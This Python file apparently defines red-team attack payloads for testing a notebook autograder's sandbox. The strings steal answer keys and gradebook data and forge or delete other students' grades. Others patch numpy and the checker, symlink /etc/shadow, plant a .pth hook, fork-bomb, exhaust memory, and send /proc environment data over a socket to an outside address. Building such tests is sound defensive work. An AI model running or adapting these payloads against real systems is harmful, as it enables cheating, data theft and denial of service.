"""The attacks of the example class on the grading machinery itself (issue 11): the grader's process and its
checks, its files, the machine, and the other students. Each is code at the end of an exercise cell of a notebook
left undone, so that the honest work is 0 whatever the attack achieves.

The aimed ones hold placeholders (`{answer_keys!r}`, `{notebooks!r}`, `{gradebooks!r}`, `{grades!r}`,
`{submissions}`) that `aimed_at` fills with the paths of the folders the class is graded from and into.
"""

import site
from pathlib import Path

from ..common.notebooks import REPO

REDTEAM_PORT = 47913  # iris tries to reach a server the red-team test listens with on this port
DAEMON_MARK = "tinytorch-redteam-daemon"


def aimed_at(grades: str, submissions: str = "") -> dict:
    "What the aimed cheats' placeholders are filled with, for a class graded from `submissions` into `grades`."
    return {
        "grades": grades,
        "submissions": submissions,
        "answer_keys": reference_paths(grades),
        "notebooks": [
            str(REPO / "notebooks" / "04_elementwise.ipynb"),
            f"{grades}/.grading/master/source/04_elementwise/04_elementwise.ipynb",
            f"{grades}/.grading/reference/nbs/04_elementwise.ipynb",
        ],
        "gradebooks": [f"{grades}/.grading/master/gradebook.db"],
    }


def reference_paths(grades: str) -> list:
    "Where a student would look for the answer key: the repository, the grader's reference package, site-packages."
    paths = [
        REPO / "tinytorch" / "core" / "elementwise.py",
        Path(grades) / ".grading" / "reference" / "tinytorch" / "core" / "elementwise.py",
    ]
    paths += [Path(p) / "tinytorch" / "core" / "elementwise.py" for p in site.getsitepackages()]
    return [str(p) for p in paths]


IMPORT_REFERENCE = """
import importlib.util as _util
for _path in {answer_keys!r}:
    try:
        _spec = _util.spec_from_file_location("_answer_key", _path)
        _key = _util.module_from_spec(_spec)
        _spec.loader.exec_module(_key)
    except Exception:
        continue
    for _name in ["unbroadcast", "AddBackward", "SubBackward", "MulBackward", "DivBackward", "NegBackward",
                  "PowBackward", "ExpBackward", "LogBackward"]:
        globals()[_name] = getattr(_key, _name)
    break
"""

READ_INSTRUCTOR_FILES = """
import json as _json, os as _os, sqlite3 as _sqlite3
_candidates = {notebooks!r} + ["../../../source/04_elementwise/04_elementwise.ipynb", "../course/source/04_elementwise/04_elementwise.ipynb"]
for _path in _candidates:
    try:
        _nb = _json.load(open(_path))
    except Exception:
        continue
    for _cell in _nb["cells"]:
        _code = "".join(_cell["source"])
        if "### BEGIN SOLUTION" in _code and "#| export" in _code:
            exec("\\n".join(l for l in _code.splitlines() if "### " not in l), globals())
    break
for _db in {gradebooks!r} + ["../../../gradebook.db", "../course/gradebook.db"]:
    try:
        _rows = _sqlite3.connect(_db).execute("select source from source_cell").fetchall()
        open(_os.path.join(_os.environ.get("HOME", "/tmp"), "stolen.txt"), "w").write(str(_rows))
    except Exception:
        pass
"""

READ_LATER_ANSWERS = """
import os as _os, tinytorch as _tinytorch
_core = _os.path.join(_os.path.dirname(_tinytorch.__file__), "core")
for _name in sorted(_os.listdir(_core)):
    if _name.endswith(".py"):
        _lines = open(_os.path.join(_core, _name)).read().splitlines()  # the lines an answer would be on
        print("LEAKED", _name, [_l for _l in _lines if "grad_output" in _l or "stack.append" in _l][:200])
"""

WRITE_GRADES = """
import json as _json, os as _os, signal as _signal
_grades = {grades!r}
for _path, _text in [(_grades + "/grades.csv", "student,assignment,notebook,score,max_score,note\\nkate,04_elementwise,04_elementwise.ipynb,24,24,\\n"),
                     (_grades + "/gradebook.json", '{{"kate": {{"04_elementwise": {{"score": 24, "max_score": 24}}}}}}'),
                     (_grades + "/results/kate/04_elementwise.json", '{{"score": 24}}'),
                     (_grades + "/results/alice/04_elementwise.json", "deleted by kate"),
                     ("../../../gradebook.db", "corrupted"), ("../course/gradebook.db", "corrupted")]:
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        open(_path, "w").write(_text)
    except Exception:
        pass
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except Exception:
    pass
"""

FORGE_CHANNEL = """
import os as _os, sys as _sys
_main = _sys.modules.get("__main__")
_wire = _sys.modules.get("wire")
if _wire is not None:
    _pack = _wire.pack
    _wire.pack = lambda header, arrays: _pack({"op": "return", "values": {"value": True}, "objects": []}, [])
    try:                                   # and a forged answer straight into the result pipe
        _os.write(int(_sys.argv[2]), _pack({"op": "return", "values": {"value": True}, "objects": []}, []))
    except Exception:
        pass
"""

NUMPY_INTERNALS = """
import numpy as _np
_true = lambda *args, **kwargs: True
for _f in (_np.allclose, _np.isclose, _np.array_equal):
    try:
        _f._implementation.__code__ = _true.__code__
    except Exception:
        pass
try:
    import numpy._core._methods as _m
    _m.umr_maximum = lambda *args, **kwargs: -1.0
except Exception:
    pass
"""

SWAP_CHECKER = """
import sys as _sys, types as _types
_fake = _types.ModuleType("tinytorch.core.gradcheck")
_fake.check_backward = _fake.gradcheck = _fake.compare_gradient = lambda *args, **kwargs: True
_fake.GradcheckError = AssertionError
_sys.modules["tinytorch.core.gradcheck"] = _fake
"""

FRAME_WALKER = """
import sys as _sys

class Sneaky:
    "A gradient whose .data looks up the checker's numerical gradient in the caller's frames."
    @property
    def data(self):
        frame = _sys._getframe()
        while frame is not None:
            if "numeric" in frame.f_locals:
                return frame.f_locals["numeric"]
            frame = frame.f_back
        return 0.0

def _apply(self, grad_output):
    return tuple(Sneaky() for _ in self.saved_tensors)

for _name in ["AddBackward", "SubBackward", "MulBackward", "DivBackward", "NegBackward", "PowBackward",
              "ExpBackward", "LogBackward"]:
    globals()[_name].apply = _apply

def _tracer(frame, event, arg):
    if "numeric" in frame.f_locals and "analytic" in frame.f_locals:
        frame.f_locals["analytic"] = frame.f_locals["numeric"]
    return _tracer
_sys.settrace(_tracer)
"""

TAMPER_RUNNER = """
import glob as _glob, os as _os
for _path in ["/grader/worker.py"] + _glob.glob("/grader/wire/*.py") + _glob.glob("/student/tinytorch/core/*.py"):
    for _action in (lambda p: _os.chmod(p, 0o777), lambda p: open(p, "w").write("print('fake')"), _os.remove):
        try:
            _action(_path)
        except Exception:
            pass
for _folder in ["/grader", "/student", "/tmp", _os.path.expanduser("~")]:
    try:
        _os.chmod(_folder, 0o777)
    except Exception:
        pass
_os._exit(1)          # crash, so that the next worker would run the fake
"""

PLANT_SYMLINKS = """
import os as _os, site as _site, sys as _sys
for _target, _link in [("/etc/shadow", "~/.matplotlib"), ("/", "~/root"), ("/root", "/tmp/tinytorch-grading-x")]:
    try:
        _os.symlink(_target, _os.path.expanduser(_link))
    except Exception:
        pass
for _folder in _site.getsitepackages() + [_os.path.dirname(_os.__file__)]:
    try:
        open(_os.path.join(_folder, "zz-redteam.pth"), "w").write("import os; os.system('touch /tmp/pwned')\\n")
    except Exception:
        pass
"""

DAEMON = """
import os as _os, subprocess as _subprocess, sys as _sys
_code = "import os, time\\n# {mark}\\nwhile True:\\n    time.sleep(0.001)\\n    if os.fork():\\n        os._exit(0)\\n"
for _ in range(3):
    try:
        _subprocess.Popen([_sys.executable, "-c", _code], start_new_session=True, stdin=_subprocess.DEVNULL,
                          stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
    except Exception:
        pass
"""

SNOOP = """
import glob as _glob, os as _os, socket as _socket
_found = []
for _path in _glob.glob("/proc/[0-9]*/cmdline") + _glob.glob("/proc/[0-9]*/environ"):
    try:
        _found.append(open(_path, "rb").read())
    except Exception:
        pass
for _address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
    try:
        _s = _socket.create_connection(_address, timeout=2)
        _s.sendall(repr([_os.environ.get("JUPYTER_PATH"), _found[:20]]).encode()[:60000])
        _s.close()
    except Exception:
        pass
"""

FORK_BOMB = """
import os as _os, time as _time
for _ in range(400):  # bounded, so that a host without cgroups survives it too
    try:
        if _os.fork() == 0:
            _time.sleep(3600)
            _os._exit(0)
    except OSError:
        break
"""

HUGE_CALLBACK = (  # at the start of numerical_grad: ask the test's fn to broadcast a (4000, 1) and a (1, 4000) array
    "solution-numerical_grad",
    "    wrap = Tensor if any(",
    "    try:\n"
    "        fn(np.ones((4000, 1)), np.ones((1, 4000)))  # 64 KB asked, 128 MB for the grader to compute\n"
    "        return [None] * len(inputs)  # the grader computed it: then this attack costs the student the tests\n"
    "    except Exception:\n"
    "        pass  # refused (or fn takes one input): the honest solution follows\n"
    "    wrap = Tensor if any(",
)

FILL_MEMORY = """
import os as _os
for _folder in ("/tmp", _os.path.expanduser("~")):
    try:
        with open(_os.path.join(_folder, "fill"), "wb") as _f:
            for _ in range(5 * 1024):
                _f.write(b"x" * 2**20)
    except Exception:
        pass
for _ in range(6):
    try:
        if _os.fork() == 0:
            _block = bytearray(600 * 2**20)
            for _i in range(0, len(_block), 4096):
                _block[_i] = 1
            _os._exit(0)
    except OSError:
        break
"""

# The grader exports each submission's package with nbdev, outside the sandbox, and nbdev reads a code cell's first
# "#|" lines as where to write it: "#| exporti NAME" appends the cell to NAME.py if that file exists, "#| default_exp
# NAME" writes the whole module to NAME.py, NAME an absolute path without dots (nbdev makes them folders). Each goes
# first in a solved exercise cell: {grade_id: first line} (red team round 7).
EXPORT_ELSEWHERE = (
    ("hours_spent", "#| exporti {submissions}/nadia/04_elementwise/target\n"),
    ("solution-AddBackward", "#| default_exp {grades}/nadia\n"),
)
EXPORT_TARGET = ("target.py", "CANARY = 'as nadia handed it in'\n")  # beside her notebook, for the first to aim at

# Written into the result pipe while the student's module is imported: a "ready" before the worker's own, its error
# a number, which the grader once took as text and failed on, its fault at every run (red team round 7).
FORGE_READY = """
import os as _os, sys as _sys
_wire = _sys.modules.get("wire")
if _wire is not None and len(_sys.argv) > 2:
    _os.write(int(_sys.argv[2]), _wire.pack({"op": "ready", "error": 1, "printed": []}, []))
"""

# Text that UTF-8 cannot hold: JSON may carry a lone UTF-16 surrogate ("\\ud800") and a student's code can make one
# (chr(0xD800)); every file the grader writes is UTF-8, and one such character made the job fail, "not graded, a
# fault of the grader" at every run (red team round 8). SURROGATE stands for the JSON escape in a notebook's text
# (classroom.Case.raw); RAISE_A_SURROGATE puts one in the error of a module that fails its import.
SURROGATE = ("LONE-SURROGATE", "\\ud800")
RAISE_A_SURROGATE = 'raise ValueError("half-written " + chr(0xD800))'
